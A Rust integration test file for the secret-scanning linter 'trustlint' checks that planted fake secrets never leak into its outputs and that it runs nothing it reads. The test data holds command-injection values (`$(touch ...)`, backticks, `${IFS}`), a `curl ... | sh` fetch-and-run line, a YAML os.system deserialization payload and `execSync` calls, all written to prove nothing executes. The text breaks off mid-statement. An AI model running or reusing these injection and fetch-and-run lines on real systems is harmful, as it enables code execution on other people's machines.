//! The canary test for every command and output format (issue 7): secrets planted in
//! definitions, configs and unparsable files never appear, whole or in a distinctive piece
//! of 8 characters or more, in standard output, standard error or any file trustlint
//! writes (reports, baselines, chosen registrations). And trustlint runs nothing it reads
//! and connects nowhere, as far as a test can tell.
//!
//! Tests marked `#[ignore = "trustlint bug: ..."]` state what trustlint should do and does
//! not yet; `cargo test --test canary_everywhere -- --ignored` runs them.

use std::path::Path;

mod support;
use support::{AUDIT_FORMATS, CHOOSE_SPA, FORMATS, Project, TestCommand, git, write};

/// A canary: a secret with a name for messages. Every 8-character piece of it is
/// distinctive (random-looking, never a word trustlint prints).
struct Canary {
    name: &'static str,
    secret: String,
}

/// The canaries of the main project, one per place a secret hides.
fn canaries() -> Vec<Canary> {
    let c = |name, secret: &str| Canary {
        name,
        secret: secret.to_string(),
    };
    // The payload's first and last characters encode `{"jti":"` and `"}`, which any JWT
    // may hold; the rest encodes random characters.
    let payload = jwt_part_payload();
    vec![
        c(
            "ApplicationSecretHash holding the plain secret",
            "Zq7vK2mXw9Rt4LpB8nHs",
        ),
        c(
            "a misspelled key (ApplicationSecretHsh)",
            "Yt3rD8qWz5Mv1KcN6jGa",
        ),
        c("a Users entry's password", "Pw4hJ9sLq2Xn7Bd3Vf8Ke"),
        c(".env, VITE_ (front end)", "Fe6gT1zRk8Wq3Ym5Hc2Nd"),
        c(".env, back end", "Be9kL4xPv7Qs2Dm6Rt1Jw"),
        c("appsettings.json", "As5nW8cYq3Kz7Ht2Lm9Vx"),
        c("oidc.ts", "Ot2fB7kQx5Zr9Gw3Nj6Pc"),
        c("a YAML auth config", "Ya8mH3tVz6Lq1Xk9Dr4Wb"),
        c("a TOML oidc config", "Tl4qZ9rWk2Hm7Ns5Bx8Gv"),
        c(
            "wwwroot/appsettings.json (front end)",
            "Ww3xK8pLz5Rq9Vm2Tc7Hn",
        ),
        c("a connection string", "Cs9vR2kMx6Tz4Wq8Lp3Hd"),
        c(
            "an ERP.net reference token",
            "enrt_9f3ac1e07b5d24f8e6a0c3b19d7254ef0a8b6c2d4e1f3907a5c8e2b4d6f0193c",
        ),
        c("a JWT's payload", &payload[12..payload.len() - 4]),
        c("a JWT's signature", JWT_SIGNATURE),
    ]
}

fn b64url(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes)
}

const JWT_SIGNATURE: &str = "Sg8dQ3wLz7Kx2Vn9Rb5Tm1Hp6Yc4Jf0Xa";

fn jwt_part_payload() -> String {
    b64url(br#"{"jti":"Jq5Xc8Rm2Wv7Tz4Kp9Lb3Nd6Hf1Qs8Gw2Yx5Vc7Mr0Zk"}"#)
}

/// An access token (by its `typ`): the header is the common `{"alg":"RS256",...}` (its
/// pieces appear in any JWT, so only the payload and the signature are canaries).
fn jwt() -> String {
    format!(
        "{}.{}.{JWT_SIGNATURE}",
        b64url(br#"{"alg":"RS256","typ":"at+jwt"}"#),
        jwt_part_payload()
    )
}

fn secret(name_start: &str) -> String {
    canaries()
        .into_iter()
        .find(|c| c.name.starts_with(name_start))
        .unwrap()
        .secret
}

/// The project: definitions and configs of two apps with every canary planted.
fn plant(d: &Path) {
    write(
        d,
        "spa.trusted-app.yaml",
        "ApplicationUri: com.example/spa\nClientType: Public\nAppType: Spa\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: https://spa.example.com/cb\nScope: read\n",
    );
    write(
        d,
        "web.trusted-app.yaml",
        format!(
            "TrustedApplications:\n  - ApplicationUri: com.example/web\n    ClientType: Confidential\n    AppType: WebApp\n    ApplicationSecretHash: {}\n    ApplicationSecretHsh: {}\n    ImpersonateAsInternalUserAllowed: true\n    ImpersonateLoginUrl: https://web.example.com/signin-oidc\n    SystemUserAllowed: true\n    SystemUser: svc.web\n    Scope: read\nUsers:\n  - Login: svc.web\n    UserType: InternalUser\n    Password: {}\n",
            secret("ApplicationSecretHash"),
            secret("a misspelled"),
            secret("a Users"),
        ),
    );
    write(
        d,
        "spa/package.json",
        r#"{"dependencies": {"react": "19.0.0", "vite": "7.0.0"}}"#,
    );
    write(
        d,
        "spa/.env.production",
        format!(
            "VITE_OIDC_CLIENT_ID=com.example/spa\nVITE_OIDC_CLIENT_SECRET={}\nVITE_ACCESS_TOKEN={}\nERP_TOKEN={}\n",
            secret(".env, VITE_"),
            jwt(),
            secret("an ERP.net"),
        ),
    );
    write(
        d,
        "api/.env",
        format!(
            "OIDC_CLIENT_ID=com.example/web\nOIDC_CLIENT_SECRET={}\nDB=Server=db;User Id=app;Password={};\n",
            secret(".env, back end"),
            secret("a connection"),
        ),
    );
    write(
        d,
        "api/appsettings.json",
        format!(
            "{{ // comments are allowed\n  \"OpenIdConnect\": {{ \"ClientId\": \"com.example/web\", \"ClientSecret\": \"{}\", \"Callback\": \"https://x.example.com/cb?access_token={}\" }}\n}}\n",
            secret("appsettings.json"),
            jwt(),
        ),
    );
    write(
        d,
        "spa/src/oidc.ts",
        format!(
            "export const settings = {{ client_id: 'com.example/spa', client_secret: '{}', disablePKCE: true }};\n",
            secret("oidc.ts"),
        ),
    );
    write(
        d,
        "tools/auth.yaml",
        format!(
            "oidc:\n  client_id: com.example/web\n  client_secret: {}\n",
            secret("a YAML auth"),
        ),
    );
    write(
        d,
        "tools/oidc.toml",
        format!(
            "client_id = \"com.example/spa\"\nclient_secret = \"{}\"\n",
            secret("a TOML oidc"),
        ),
    );
    write(
        d,
        "blazor/wwwroot/appsettings.json",
        format!(
            "{{ \"Oidc\": {{ \"ClientId\": \"com.example/web\", \"ClientSecret\": \"{}\" }} }}\n",
            secret("wwwroot"),
        ),
    );
}

/// What a run left: its exit status, its output and the files it wrote.
struct Output {
    what: String,
    code: Option<i32>,
    text: String,
}

impl From<support::Output> for Output {
    fn from(run: support::Output) -> Output {
        Output {
            text: format!("--- stdout\n{}\n--- stderr\n{}", run.stdout, run.stderr),
            what: run.what,
            code: run.code,
        }
    }
}

fn trustlint(dir: &Path, args: &[&str]) -> Output {
    support::trustlint(dir, args).into()
}

/// Adds a written file to what a run left.
fn with_file(mut output: Output, path: &Path) -> Output {
    let text = std::fs::read_to_string(path)
        .unwrap_or_else(|e| panic!("{}: {} was not written: {e}", output.what, path.display()));
    output
        .text
        .push_str(&format!("\n--- {}\n{text}", path.display()));
    output
}

/// Every piece of `secret` of `len` characters.
fn pieces(secret: &str, len: usize) -> Vec<&str> {
    let chars: Vec<(usize, char)> = secret.char_indices().collect();
    (0..=chars.len().saturating_sub(len))
        .map(|i| {
            let start = chars[i].0;
            let end = chars.get(i + len).map_or(secret.len(), |c| c.0);
            &secret[start..end]
        })
        .collect()
}

/// Fails when any canary, or any 8-character piece of one, is in the output.
fn assert_no_canary(output: &Output, canaries: &[Canary]) {
    for canary in canaries {
        for piece in pieces(&canary.secret, 8) {
            if let Some(at) = output.text.find(piece) {
                let from = output.text[..at].rfind('\n').map_or(0, |i| i + 1);
                let to = output.text[at..]
                    .find('\n')
                    .map_or(output.text.len(), |i| at + i);
                panic!(
                    "{}: the secret in {} leaks (`{piece}`), in this line:\n{}",
                    output.what,
                    canary.name,
                    &output.text[from..to]
                );
            }
        }
    }
}

/// Fails unless the run found what the canaries are about (so that a canary that went
/// unread does not pass for one that was kept secret).
fn assert_checked(output: &Output) {
    for rule in [
        "TA303", "TA104", "CF101", "CF102", "CF103", "CF104", "CF209",
    ] {
        assert!(
            output.text.contains(rule),
            "{}: {rule} missing, so a canary went unchecked:\n{}",
            output.what,
            output.text
        );
    }
}

fn project() -> Project {
    let dir = Project::new();
    plant(dir.path());
    dir
}

#[test]
fn the_planted_canaries_are_found() {
    let dir = project();
    let out = trustlint(dir.path(), &["check", "--format", "json", "."]);
    assert_eq!(out.code, Some(1), "{}", out.text);
    assert_checked(&out);
}

#[test]
fn check_in_every_format_shows_no_canary() {
    let dir = project();
    let all = canaries();
    for format in FORMATS {
        let out = trustlint(dir.path(), &["check", "--format", format, "."]);
        assert_eq!(out.code, Some(1), "{}: {}", out.what, out.text);
        assert_checked(&out);
        assert_no_canary(&out, &all);
        let out = trustlint(
            dir.path(),
            &[
                "check",
                "--format",
                format,
                "--statistics",
                "--fail-on",
                "info",
                ".",
            ],
        );
        assert_no_canary(&out, &all);
    }
}

#[test]
fn the_audit_in_every_format_shows_no_canary() {
    let dir = project();
    let all = canaries();
    let reports = Project::new();
    for (i, format) in AUDIT_FORMATS.iter().enumerate() {
        let out = trustlint(dir.path(), &[&["audit", "."][..], format].concat());
        assert_eq!(out.code, Some(0), "{}: {}", out.what, out.text);
        // One row per app names no rule; every other format lists the findings.
        if *format != ["--format", "csv"] {
            for rule in ["TA303", "CF101", "CF102", "CF103", "CF104"] {
                assert!(out.text.contains(rule), "{}: {rule} missing", out.what);
            }
        }
        assert_no_canary(&out, &all);
        let path = reports.path().join(format!("audit.{i}"));
        let args = [&["audit", "-o", path.to_str().unwrap(), "."][..], format].concat();
        let out = with_file(trustlint(dir.path(), &args), &path);
        assert_no_canary(&out, &all);
    }
    // Files that do not parse: their secrets are masked in the audit too.
    let broken = Project::new();
    let unparsable = plant_unparsable(broken.path());
    for format in AUDIT_FORMATS {
        let out = trustlint(broken.path(), &[&["audit", "."][..], format].concat());
        assert_eq!(out.code, Some(2), "{}: {}", out.what, out.text);
        assert_no_canary(&out, &unparsable);
    }
}

#[test]
fn reports_written_with_o_show_no_canary() {
    let dir = project();
    let all = canaries();
    let reports = Project::new();
    for format in FORMATS {
        let path = reports.path().join(format!("report.{format}"));
        let out = trustlint(
            dir.path(),
            &[
                "check",
                "--format",
                format,
                "--statistics",
                "-o",
                path.to_str().unwrap(),
                ".",
            ],
        );
        assert_eq!(out.code, Some(1), "{}: {}", out.what, out.text);
        let out = with_file(out, &path);
        assert_checked(&out);
        assert_no_canary(&out, &all);
    }
}

#[test]
fn baselines_hold_no_canary_and_suppress_by_fingerprint() {
    let dir = project();
    let all = canaries();
    let baseline = dir.path().join(".trustlint-baseline.json");
    let out = trustlint(
        dir.path(),
        &["check", "--write-baseline", baseline.to_str().unwrap(), "."],
    );
    assert_eq!(out.code, Some(0), "{}", out.text);
    let out = with_file(out, &baseline);
    assert!(out.text.contains("CF101"), "{}", out.text);
    assert_no_canary(&out, &all);
    // Read back: every finding is recorded, so nothing new is reported.
    for format in FORMATS {
        let out = trustlint(
            dir.path(),
            &[
                "check",
                "--format",
                format,
                "--baseline",
                baseline.to_str().unwrap(),
                ".",
            ],
        );
        assert_eq!(out.code, Some(0), "{}: {}", out.what, out.text);
        assert_no_canary(&out, &all);
    }
}

#[test]
fn staged_checks_show_no_canary() {
    let dir = Project::with_git();
    let d = dir.path();
    plant(d);
    git(d, &["add", "-A"]);
    let all = canaries();
    for format in FORMATS {
        let out = trustlint(d, &["check", "--staged", "--format", format]);
        assert_eq!(out.code, Some(1), "{}: {}", out.what, out.text);
        assert_checked(&out);
        assert_no_canary(&out, &all);
    }
    // Staged content differs from the working tree: the staged canaries count.
    std::fs::write(d.join("api/.env"), "OIDC_CLIENT_ID=com.example/web\n").unwrap();
    let out = trustlint(d, &["check", "--staged", "--format", "concise"]);
    assert!(out.text.contains("api/.env"), "{}", out.text);
    assert_no_canary(&out, &all);
}

#[test]
fn explain_rules_choose_and_schema_show_no_canary() {
    let dir = project();
    let d = dir.path();
    let all = canaries();
    let mut outputs = vec![
        trustlint(d, &["explain", "CF101"]),
        trustlint(d, &["explain", "secret-hash-malformed"]),
        trustlint(d, &["rules"]),
        trustlint(d, &["rules", "--format", "json"]),
        trustlint(d, &["rules", "--format", "markdown"]),
        trustlint(d, &["schema"]),
    ];
    for format in ["json", "yaml", "text"] {
        let path = d.join(format!("chosen-{format}.trusted-app.yaml"));
        let uri = format!("com.example/chosen-{format}");
        let out = Output::from(
            TestCommand::new(d)
                .args(CHOOSE_SPA)
                .args([
                    "--app-uri",
                    &uri,
                    "--instance",
                    "acme",
                    "--redirect-uri",
                    "https://chosen.example.com/callback",
                    "--format",
                    format,
                    "--write",
                    path.to_str().unwrap(),
                ])
                .run(),
        );
        assert_eq!(out.code, Some(0), "{}: {}", out.what, out.text);
        outputs.push(with_file(out, &path));
    }
    for out in &outputs {
        assert_no_canary(out, &all);
    }
    // The chosen registrations are then checked beside the canaries: clean themselves.
    let out = trustlint(d, &["check", "--format", "concise", "."]);
    assert_eq!(out.code, Some(1), "{}", out.text);
    assert!(!out.text.contains("chosen-"), "{}", out.text);
    assert_no_canary(&out, &all);
}

// ---------------------------------------------------------------------------------------
// Secrets in files that do not parse, and under keys trustlint does not know

/// Canaries in files that do not parse: a definition in each format, configs, and the
/// project's trustlint.toml. Each file breaks on the line after its secret or on the same
/// line.
fn plant_unparsable(d: &Path) -> Vec<Canary> {
    let c = |name, secret: &str| Canary {
        name,
        secret: secret.to_string(),
    };
    let canaries = vec![
        c("an unparsable YAML definition", "Uy5kR8wQz2Lm7Xv3Hb9Tn"),
        c("an unparsable JSON definition", "Uj3nW6pLx9Kq2Zr7Vd5Hm"),
        c("an unparsable TOML definition", "Ut8hB2vMz5Rk9Wq4Lc7Xp"),
        c("an unparsable appsettings.json", "Ua6tQ9xKr3Wz7Lm2Hv5Bd"),
        c("an unparsable oidc.yaml", "Uo2wL7mXq4Rt9Kb6Zv3Hn"),
        c("an unparsable trustlint.toml", "Us9pV4kZr7Hq2Wx5Lm8Tb"),
        c(
            "a misspelled key beside a YAML tab, shown in the parse error's snippet",
            "Uq4xT7nWb2Kz9Lr5Hm3Vc",
        ),
        c(
            "an unknown key beside a missing JSON comma",
            "Ub8mR3vKx6Wq2Lz9Tn5Hd",
        ),
    ];
    let s = |i: usize| canaries[i].secret.clone();
    write(
        d,
        "broken.trusted-app.yaml",
        format!(
            "ApplicationUri: com.example/broken\nApplicationSecretHash: {}\n  Scope: [read\n",
            s(0)
        ),
    );
    write(
        d,
        "tabbed.trusted-app.yaml",
        format!(
            "ApplicationUri: com.example/tabbed\nClientScret: {}\n\tScope: read\n",
            s(6)
        ),
    );
    write(
        d,
        "comma.trusted-app.json",
        format!(
            "{{\n  \"ApplicationUri\": \"com.example/comma\",\n  \"Xyz\": \"{}\"\n  \"Scope\": \"read\"\n}}\n",
            s(7)
        ),
    );
    write(
        d,
        "broken.trusted-app.json",
        format!(
            "{{\"ApplicationUri\": \"com.example/broken-json\", \"ApplicationSecretHash\": \"{}\" ]\n",
            s(1)
        ),
    );
    write(
        d,
        "broken.trusted-app.toml",
        format!(
            "ApplicationUri = \"com.example/broken-toml\"\nApplicationSecretHash = \"{}\" oops\n",
            s(2)
        ),
    );
    write(
        d,
        "api/appsettings.json",
        format!(
            "{{\n  \"OpenIdConnect\": {{ \"ClientId\": \"com.example/web\", \"ClientSecret\": \"{}\" ]\n}}\n",
            s(3)
        ),
    );
    write(
        d,
        "tools/oidc.yaml",
        format!(
            "client_id: com.example/web\nclient_secret: {}\n - [\n",
            s(4)
        ),
    );
    write(
        d,
        "trustlint.toml",
        format!("fail-on = \"error\"\nclient_secret = \"{}\" oops\n", s(5)),
    );
    write(
        d,
        "good.trusted-app.yaml",
        "ApplicationUri: com.example/good\nClientType: Public\nAppType: Spa\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: https://spa.example.com/cb\nScope: read\n",
    );
    canaries
}

#[test]
fn unparsable_files_with_secrets_show_no_canary_outside_snippets() {
    let dir = Project::new();
    let all = plant_unparsable(dir.path());
    let reports = Project::new();
    // Every format but human, which shows source snippets (see the ignored test below).
    for format in FORMATS.iter().filter(|f| **f != "human") {
        let path = reports.path().join(format!("report.{format}"));
        let out = trustlint(
            dir.path(),
            &[
                "check",
                "--format",
                format,
                "-o",
                path.to_str().unwrap(),
                ".",
            ],
        );
        assert_eq!(out.code, Some(2), "{}: {}", out.what, out.text);
        let out = with_file(out, &path);
        for file in [
            "broken.trusted-app.yaml",
            "broken.trusted-app.json",
            "broken.trusted-app.toml",
            "api/appsettings.json",
            "tools/oidc.yaml",
        ] {
            assert!(out.text.contains(file), "{}: {file} unreported", out.what);
        }
        assert!(out.text.contains("TL004"), "{}: {}", out.what, out.text);
        assert_no_canary(&out, &all);
    }
    let baseline = reports.path().join("baseline.json");
    let out = trustlint(
        dir.path(),
        &["check", "--write-baseline", baseline.to_str().unwrap(), "."],
    );
    assert_no_canary(&with_file(out, &baseline), &all);
}

#[test]
fn unparsable_files_with_secrets_show_no_canary_in_human_output() {
    let dir = Project::new();
    let all = plant_unparsable(dir.path());
    let out = trustlint(dir.path(), &["check", "--format", "human", "."]);
    assert_eq!(out.code, Some(2), "{}", out.text);
    assert_no_canary(&out, &all);
}

#[test]
fn misspelled_credential_keys_are_masked() {
    let dir = Project::new();
    let c = |name, secret: &str| Canary {
        name,
        secret: secret.to_string(),
    };
    let all = vec![
        c("ApplicationSecertHash", "Ms4kQ8wZr2Lx7Vn5Hb3Tp"),
        c("ClientScret", "Ms7pW2nKz9Rq4Xv6Lc8Hd"),
        c("clientsecrt in trustlint.toml", "Ms2vL9xQk5Wz8Rt3Hn7Bc"),
    ];
    write(
        dir.path(),
        "typo.trusted-app.yaml",
        format!(
            "ApplicationUri: com.example/typo\nClientType: Confidential\nApplicationSecertHash: {}\nClientScret: {}\n",
            all[0].secret, all[1].secret
        ),
    );
    write(
        dir.path(),
        "trustlint.toml",
        format!("clientsecrt = \"{}\"\n", all[2].secret),
    );
    for format in FORMATS {
        let out = trustlint(dir.path(), &["check", "--format", format, "."]);
        assert!(out.text.contains("TA104"), "{}: {}", out.what, out.text);
        assert_no_canary(&out, &all);
    }
}

#[test]
fn credentials_in_urls_are_masked() {
    let dir = Project::new();
    let c = |name, secret: &str| Canary {
        name,
        secret: secret.to_string(),
    };
    let all = vec![
        c("a password in a redirect URI", "Up9Kq3Zx7LmWt"),
        c("an access token in a redirect URI's query", "Uq8Wn2Rv5XcHj"),
        c("a client secret in a redirect URI's query", "Us4Jh7Lp2VbNk"),
        c("a token in a logout URI's fragment", "Uf3Mv8Qz1KdRy"),
        c("a password in a config's authority", "Ua5Rt8Yq2WzPm"),
        c("an access token in a config's ERP.net URL", "Ut6Hn1Ls4KxQw"),
    ];
    let s = |i: usize| all[i].secret.as_str();
    write(
        dir.path(),
        "p.trusted-app.yaml",
        format!(
            "ApplicationUri: com.example/p\nClientType: Public\nAppType: Spa\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: https://admin:{}@portal.example.com/cb?access_token={}&client_secret={}\nImpersonateLogoutUrl: \"https://portal.example.com/out#id_token_hint={}\"\nScope: read\n",
            s(0),
            s(1),
            s(2),
            s(3)
        ),
    );
    write(
        dir.path(),
        ".env",
        format!(
            "OIDC_CLIENT_ID=com.example/p\nOIDC_AUTHORITY=http://svc:{}@acme.my.erp.net/id\nAPI=https://acme.my.erp.net/api/domain/odata?access_token={}\n",
            s(4),
            s(5)
        ),
    );
    for format in FORMATS {
        let out = trustlint(dir.path(), &["check", "--format", format, "."]);
        for rule in ["TA203", "CF207", "CF208"] {
            assert!(out.text.contains(rule), "{}: {rule} missing", out.what);
        }
        assert_no_canary(&out, &all);
    }
}

#[test]
fn choose_answers_errors_show_no_canary() {
    let dir = Project::new();
    let canary = Canary {
        name: "an answers file",
        secret: "An6rT3kWz8Lq2Xv5Hm9Pc".to_string(),
    };
    write(
        dir.path(),
        "answers.yaml",
        format!("interactive-ui: true\nclient_secret: {}\n", canary.secret),
    );
    write(
        dir.path(),
        "broken-answers.yaml",
        format!(
            "interactive-ui: true\ntoken: {}\nplatform: [\n",
            canary.secret
        ),
    );
    for file in ["answers.yaml", "broken-answers.yaml"] {
        let out = trustlint(
            dir.path(),
            &["choose", "--answers", file, "--format", "json"],
        );
        assert_eq!(out.code, Some(2), "{}: {}", out.what, out.text);
        assert_no_canary(&out, std::slice::from_ref(&canary));
    }
}

// ---------------------------------------------------------------------------------------
// Nothing is run, nothing is fetched

/// Values written as shell, JS and template commands that would create `marker` if
/// anything ran them.
fn plant_commands(d: &Path, marker: &Path, url: &str) {
    let m = marker.display();
    let sh = format!("$(touch {m})");
    let tick = format!("`touch {m}`");
    let semi = format!("x; touch {m}");
    write(
        d,
        "run.trusted-app.yaml",
        format!(
            "ApplicationUri: com.example/run\nName: \"{sh}\"\nNotes: \"{tick} {semi}\"\nClientType: Public\nAppType: Spa\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: [\"{url}/cb?x={sh}\", \"https://run.example.com/{tick}\"]\nScope: read\nConfigs:\n  - \"{sh}\"\n  - web/.env\n  - Path: \"{tick}\"\n    Side: Frontend\n"
        ),
    );
    write(
        d,
        "run.trusted-app.json",
        format!(
            "{{\"$schema\": \"{url}/schema.json\", \"ApplicationUri\": \"com.example/run-json\", \"Name\": \"{}\", \"ImpersonateLoginUrl\": \"{url}/signin\"}}",
            tick.replace('`', "\\u0060")
        ),
    );
    write(
        d,
        "run.trusted-app.toml",
        format!(
            "ApplicationUri = \"com.example/run-toml\"\nName = \"{sh}\"\nNotes = '{tick}'\nImpersonateLoginUrl = \"{url}/toml\"\n"
        ),
    );
    write(
        d,
        "web/.env",
        format!(
            "OIDC_CLIENT_ID=com.example/run\nOIDC_AUTHORITY={url}/id\nOIDC_CLIENT_SECRET={sh}\nOIDC_SCOPE={tick}\nOIDC_REDIRECT_URI=\"{semi}\"\nPOST_LOGOUT=${{IFS}}{sh}\nexport EVAL=$(curl {url}/x | sh)\n"
        ),
    );
    write(
        d,
        "api/appsettings.json",
        format!(
            "{{\"$schema\": \"{url}/appsettings-schema.json\", \"OpenIdConnect\": {{\"ClientId\": \"com.example/run\", \"Authority\": \"{url}/id\", \"MetadataAddress\": \"{url}/id/.well-known/openid-configuration\", \"ClientSecret\": \"{sh}\", \"Scope\": \"{tick}\"}}}}"
        ),
    );
    write(
        d,
        "spa/src/oidc.ts",
        format!(
            "import {{ execSync }} from 'child_process';\nexecSync('touch {m}');\nexport const settings = {{ authority: '{url}/id', client_id: `${{require('child_process').execSync('touch {m}')}}`, client_secret: '{sh}' }};\n"
        ),
    );
    write(
        d,
        "tools/auth.yaml",
        format!(
            "oidc:\n  authority: {url}/id\n  client_id: !!python/object/apply:os.system [\"touch {m}\"]\n  client_secret: \"{sh}\"\n"
        ),
    );
    // A file name that is a command, for --staged (names go to git on standard input).
    write(
        d,
        format!("$(touch {}).trusted-app.yaml", marker.display()).replace('/', "_"),
        "ApplicationUri: com.example/named\n",
    );
    write(
        d,
        "trustlint.toml",
        format!("# {sh}\nexclude = [\"{}\"]\n", tick.replace('"', "")),
    );
}

#[test]
fn nothing_read_is_run_and_nothing_is_fetched() {
    let dir = Project::with_git();
    let d = dir.path();
    let marker = d.join("pwned-marker");
    // Anything trustlint fetched would connect here, directly or through a proxy.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    plant_commands(d, &marker, &url);
    git(d, &["add", "-A"]);
    let mut runs: Vec<Vec<&str>> = FORMATS
        .iter()
        .map(|f| vec!["check", "--format", f, "."])
        .collect();
    runs.push(vec!["check", "--staged", "--format", "json"]);
    runs.push(vec!["check", "--staged", "--format", "human"]);
    runs.push(vec![
        "check",
        "--format",
        "human",
        "web/.env",
        "run.trusted-app.yaml",
    ]);
    for args in &runs {
        let mut command = TestCommand::new(d);
        command.args(args);
        for var in [
            "http_proxy",
            "https_proxy",
            "HTTP_PROXY",
            "HTTPS_PROXY",
            "ALL_PROXY",
            "all_proxy",
        ] {
            command.env(var, &url);
        }
        let out = Output::from(command.run());
        assert!(
            matches!(out.code, Some(0..=2)),
            "{}: {}",
            out.what,
            out.text
        );
        assert!(
            !marker.exists(),
            "{}: a command from a checked file was run",
            out.what
        );
        match listener.accept() {
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
            Ok((_, peer)) => panic!("{}: trustlint connected to {url} (from {peer})", out.what),
            Err(e) => panic!("accept: {e}"),
        }
    }
    // The files were read: the authority and the redirect URIs were checked.
    let out = trustlint(d, &["check", "--format", "concise", "."]);
    assert!(out.text.contains("web/.env"), "{}", out.text);
    assert!(out.text.contains("run.trusted-app.yaml"), "{}", out.text);
}

/// The system calls of a check, where `strace` is installed and may trace: no socket of
/// any network family is opened, and no program is executed but trustlint itself.
#[cfg(target_os = "linux")]
#[test]
fn a_check_opens_no_network_socket_and_executes_nothing() {
    let Some(strace) = ["/usr/bin/strace", "/bin/strace"]
        .into_iter()
        .find(|p| Path::new(p).exists())
    else {
        eprintln!("SKIPPED: strace is not installed");
        return;
    };
    let dir = Project::new();
    let d = dir.path();
    let marker = d.join("pwned-marker");
    plant_commands(d, &marker, "http://127.0.0.1:9");
    plant(d);
    let trace = d.join("trace.txt");
    let out = Output::from(
        TestCommand::wrapper(strace, d)
            .args([
                "-f",
                "-qq",
                "-e",
                "trace=execve,execveat,socket,connect,sendto",
                "-o",
            ])
            .arg(&trace)
            .arg(support::BIN)
            .args(["check", "--format", "json", "."])
            .run(),
    );
    let Ok(syscalls) = std::fs::read_to_string(&trace) else {
        eprintln!("SKIPPED: strace could not trace here:\n{}", out.text);
        return;
    };
    if !syscalls.contains("execve(") {
        eprintln!(
            "SKIPPED: strace could not trace here:\n{syscalls}\n{}",
            out.text
        );
        return;
    }
    assert_eq!(out.code, Some(1), "{}", out.text);
    let exec: Vec<&str> = syscalls
        .lines()
        .filter(|l| l.contains("execve(") || l.contains("execveat("))
        .collect();
    assert_eq!(
        exec.len(),
        1,
        "trustlint executed programs:\n{}",
        exec.join("\n")
    );
    assert!(exec[0].contains(support::BIN), "{}", exec[0]);
    for line in syscalls.lines() {
        assert!(
            !(line.contains("socket(AF_INET")
                || line.contains("connect(")
                || line.contains("sendto(")),
            "trustlint used the network: {line}"
        );
    }
    assert!(!marker.exists());
}

/// The secret of the canary whose name starts with `start`.
fn named(canaries: &[Canary], start: &str) -> String {
    canaries
        .iter()
        .find(|c| c.name.starts_with(start))
        .unwrap_or_else(|| panic!("no canary {start}"))
        .secret
        .clone()
}

/// An ERP.net reference token whose 64 hex digits repeat `seed` (16 hex digits, distinct
/// per canary).
fn reference_token(seed: &str) -> String {
    format!("enrt_{}", seed.repeat(4))
}

/// A JWT of its own (payload and signature are canaries; the header is common).
fn jwt_with(jti: &str, signature: &str) -> String {
    format!(
        "{}.{}.{signature}",
        b64url(br#"{"alg":"RS256","typ":"at+jwt"}"#),
        b64url(format!(r#"{{"jti":"{jti}"}}"#).as_bytes())
    )
}

/// The leak paths of the security review (issue 10): values that messages quote, comments,
/// lines a reader skips, values split over lines, template literals, YAML aliases and
/// merge keys, and `Notes`. Each canary sits next to a line with a finding, so that any
/// snippet that shows its line would show it.
fn plant_leak_paths(d: &Path) -> Vec<Canary> {
    let c = |name, secret: String| Canary { name, secret };
    let payload_jti = "Lp4Wq9Zx2Rk7Mv3Tn8Bc5Hd1Gf6Js0Ya";
    let canaries = vec![
        c(
            "a reference token as ClientId",
            reference_token("a1b2c3d4e5f60718"),
        ),
        c(
            "a reference token in a RedirectUri path",
            reference_token("b7c8d9e0f1a2b3c4"),
        ),
        c(
            "a JWT in a PostLogoutRedirectUri fragment (payload)",
            b64url(format!(r#"{{"jti":"{payload_jti}"}}"#).as_bytes())[12..40].to_string(),
        ),
        c(
            "a JWT in a PostLogoutRedirectUri fragment (signature)",
            "Fr9Ag3Mt7Kq2Wz5Xp8Lc4Vn1Bd6".to_string(),
        ),
        c(
            "a reference token in Scope",
            reference_token("c5d6e7f8a9b0c1d2"),
        ),
        c(
            "a reference token in ResponseType",
            reference_token("d3e4f5a6b7c8d9e0"),
        ),
        c(
            "a secret swapped into the client id",
            "Sw4pK9xLq2Vt7Rm3Zc8Bn".to_string(),
        ),
        c(
            "a commented-out .env secret",
            "Ce7nV2qLx9Tz4Kw8Rb3Hm".to_string(),
        ),
        c("a live .env secret", "Lv3xQ8mZk2Wr7Tn5Bc9Pd".to_string()),
        c(
            "an `export<TAB>` .env line",
            "Ex5tR8kWq3Zm7Lv2Nc9Hb".to_string(),
        ),
        c(
            "a .env backslash continuation",
            "Bs2kW7qZx4Lm9Vr3Tc8Hn".to_string(),
        ),
        c(
            "a commented-out YAML secret",
            "Yc8qL3zWv6Km1Xt9Rb4Nd".to_string(),
        ),
        c("a live YAML secret", "Yl2vN7kQz5Wm8Lx3Tb6Rc".to_string()),
        c(
            "a YAML anchor reached by an alias",
            "An6kT2wQz9Lm4Vx8Rc3Hp".to_string(),
        ),
        c(
            "a YAML anchor reached by a merge key",
            "Mg3zR8vLk5Wq2Tn7Xc9Bd".to_string(),
        ),
        c(
            "a PEM key's first line in a template literal",
            "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwgQx7Lm2".to_string(),
        ),
        c(
            "a PEM key's second line in a template literal",
            "Vz9Kp4Wr8Tn3Bd6Hj1Fs5Gq0Ua2Yc7Xe4Mk9Lp3Rt".to_string(),
        ),
        c(
            "the second half of a split string",
            "Sp7lT4kWx9Zq2Rm5Vn8Bc".to_string(),
        ),
        c(
            "a reference token after \"Bearer \" +",
            reference_token("e9f0a1b2c3d4e5f6"),
        ),
        c(
            "a reference token in a definition's Notes",
            reference_token("f1e2d3c4b5a69788"),
        ),
        c(
            "a commented-out trustlint.toml secret",
            "Tc4mW9qLz2Xk7Rv3Nb8Hd".to_string(),
        ),
    ];
    let s = |start: &str| named(&canaries, start);
    write(
        d,
        "web.trusted-app.yaml",
        format!(
            "ApplicationUri: com.example/web\nClientType: Confidential\nNotes: \"rotate {} monthly\"\nAppType: WebApp\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: https://web.example.com/signin-oidc\nImpersonateLogoutUrl: https://web.example.com/signed-out\nScope: read\n",
            s("a reference token in a definition"),
        ),
    );
    write(
